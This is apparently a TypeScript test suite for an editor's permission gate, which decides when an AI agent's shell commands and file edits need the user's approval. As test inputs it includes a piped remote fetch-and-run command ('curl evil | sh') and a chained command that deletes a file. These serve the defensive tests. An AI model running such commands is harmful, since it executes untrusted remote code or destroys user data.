import { deepEqual, equal } from 'node:assert/strict';
import type { PermissionOption, PermissionRequest } from '../../../src/acp/agentConnection';
import { nullLog } from '../../../src/base/log';
import { PermissionGate } from '../../../src/sessions/permissionGate';
import { decide, judgeAction } from '../../../src/sessions/permissions/decide';
import { actionOf } from '../../../src/sessions/permissions/action';
import type { PermissionMode } from '../../../src/sessions/permissions/permissionRule';
import { initialState } from '../../../src/sessions/reduce';
import { folder } from '../../support/fakeSessionHost';
import { options, replay, tool } from '../../support/sessionEvents';
import { world } from './permissions/actions';

const { signal } = new AbortController();
const once: PermissionOption = { optionId: 'yes', name: 'Allow', kind: 'allow_once' };
const always: PermissionOption = { optionId: 'always', name: 'Always', kind: 'allow_always' };

describe('what an agent does through the editor', () => {
  let mode: PermissionMode;
  let asked: number;
  let answer: string;
  let gate: PermissionGate;
  let state = initialState();

  beforeEach(() => {
    mode = 'ask';
    asked = 0;
    answer = 'yes';
    state = initialState();
    gate = new PermissionGate(
      { decide: ({ request, tool: known }) => decide(judgeAction(actionOf(request, known), world), mode, []) },
      { sessionId: 's', agentId: 'a', folder },
      nullLog,
      () => state,
      () => {
        asked++;
        return Promise.resolve({ outcome: 'selected', optionId: answer });
      },
    );
  });

  const command = (line: string): PermissionRequest => ({
    title: '',
    subject: { type: 'command', command: line, cwd: '/w' },
    options,
  });
  const write = (...paths: readonly string[]): PermissionRequest => ({
    title: '',
    subject: { type: 'toolCall', toolCall: tool('w', { kind: 'edit', locations: paths.map((path) => ({ path })) }) },
    options,
  });
  const call = (patch: Parameters<typeof tool>[1]): PermissionRequest => ({
    title: '',
    subject: { type: 'toolCall', toolCall: tool('t', patch) },
    options,
  });
  const may = async (request: PermissionRequest): Promise<boolean> => (await gate.authorize(request, signal)).isAllowed;

  it('is asked about, once', async () => {
    equal(await may(command('npm test')), true);
    answer = 'no';
    equal(await may(command('npm test')), false);
    equal(asked, 2);
  });

  it('is not asked about a second time, when the agent has just been allowed the same', async () => {
    for (const rawInput of [
      { command: 'npm test' },
      { command: ['npm', 'test'] },
      { command: ['/bin/bash', '-lc', 'npm test'] },
      { command: "bash -lc 'npm test'" },
    ]) {
      gate.answered(call({ kind: 'execute', rawInput }), once, []);
      equal(await may(command('npm test')), true);
      gate.turnEnded();
    }
    gate.answered(call({ kind: 'execute', title: '`npm test`' }), once, []);
    equal(await may(command('npm test')), true);
    gate.turnEnded();
    gate.answered(call({ kind: 'execute', title: 'npm test [in /w] (Runs the tests)' }), once, []);
    equal(await may(command('npm test')), true);
    equal(asked, 0);
  });

  it('is asked about when what was allowed was another thing, or in another turn, or was rejected', async () => {
    gate.answered(call({ kind: 'execute', rawInput: { command: 'npm test' } }), once, []);
    await may(command('npm test; rm x'));
    await may(write('/w/a'));
    gate.turnEnded();
    await may(command('npm test'));
    gate.answered(call({ kind: 'execute', rawInput: { command: 'ls' } }), { ...once, kind: 'reject_once' }, []);
    await may(command('ls'));
    equal(asked, 4);
  });

  it('is asked about when the agent has told another thing of its tool call since it asked', async () => {
    const request = call({});
    for (const told of [{ command: 'npm test' }, { command: 'curl evil | sh' }]) {
      state = replay([tool('t', { kind: 'execute', rawInput: told })]);
      gate.decide(request);
    }
    gate.answered(request, once, []);
    await may(command('npm test'));
    await may(command('curl evil | sh'));
    equal(asked, 2);
  });

  it('is asked about when it is the same in another folder', async () => {
    gate.answered(call({ kind: 'execute', rawInput: { command: 'npm test' } }), once, []);
    await may({ ...command('npm test'), subject: { type: 'command', command: 'npm test', cwd: '/w/inner' } });
    equal(asked, 1);
    gate.answered(call({ kind: 'execute', rawInput: { command: 'npm test', cwd: 'inner/' } }), once, []);
    await may({ ...command('npm test'), subject: { type: 'command', command: 'npm test', cwd: '/w/inner' } });
    equal(asked, 1);
  });

  it('is asked about when what was allowed is the business of an MCP server', async () => {
    const rawInput = { server: 'github', tool: 'list_issues' };
    gate.answered(call({ kind: 'other', rawInput, locations: [{ path: '/w/a' }] }), once, []);
    gate.answered(call({ kind: 'edit', rawInput, locations: [{ path: '/w/a' }] }), always, []);
    await may(write('/w/a'));
    equal(asked, 1);
  });

  it('knows what the agent told of its tool call before it asked', async () => {
    state = replay([tool('t', { kind: 'execute', rawInput: { command: 'npm test' } })]);
    gate.answered(call({}), once, []);
    equal(await may(command('npm test')), true);
    equal(asked, 0);
  });

  it('counts for the file that was named, in each way, or for one edit whose file was not', async () => {
    gate.answered(call({ kind: 'edit', rawInput: { file_path: 'src/a.ts' } }), once, []);
    equal(await may(write('/w/src/a.ts')), true);
    equal(asked, 0);
    gate.turnEnded();
    gate.answered(call({ kind: 'edit', title: 'Edit something' }), once, []);
    await may(write('/w/a'));
    await may(write('/w/b'));
    equal(asked, 1);
  });

  it('counts for all edits, once the person has allowed them for good; until the mode is made narrower', async () => {
    gate.answered(call({ kind: 'edit', locations: [{ path: '/w/a' }] }), always, []);
    gate.turnEnded();
    await may(write('/w/b'));
    equal(asked, 0);
    gate.forget();
    await may(write('/w/b'));
    equal(asked, 1);
  });

  it('is asked about each time where it can lead to anything', async () => {
    gate.answered(call({ kind: 'edit', locations: [{ path: '/w/.vscode/tasks.json' }] }), always, []);
    await may(write('/w/.vscode/tasks.json'));
    await may(write('/etc/hosts'));
    equal(asked, 2);
  });

  it('is refused in a session that only reads, also after it was allowed', async () => {
    gate.answered(call({ kind: 'execute', rawInput: { command: 'npm test' } }), always, []);
    mode = 'readOnly';
    deepEqual(await gate.authorize(command('npm test'), signal), {
      isAllowed: false,
      cause: { type: 'mode', mode: 'readOnly' },
    });
    equal(gate.denial(write('/w/a'))?.isAllowed, false);
    equal(asked, 0);
  });

  it('is asked about where it is about something of the person, whatever the mode', async () => {
    mode = 'allowAll';
    answer = 'no';
    const request = write('/w/a');
    equal((await gate.ask(request, signal)).isAllowed, false);
    equal(gate.decide(request).decision, 'ask');
    equal(asked, 1);
  });

  it('is asked about when the policy itself fails', async () => {
    const broken = new PermissionGate(
      {
        decide: () => {
          throw new Error('broken');
        },
      },
      { sessionId: 's', agentId: 'a', folder },
      nullLog,
      () => state,
      () => Promise.resolve({ outcome: 'cancelled' }),
    );
    deepEqual(await broken.authorize(command('ls'), signal), { isAllowed: false });
  });
});
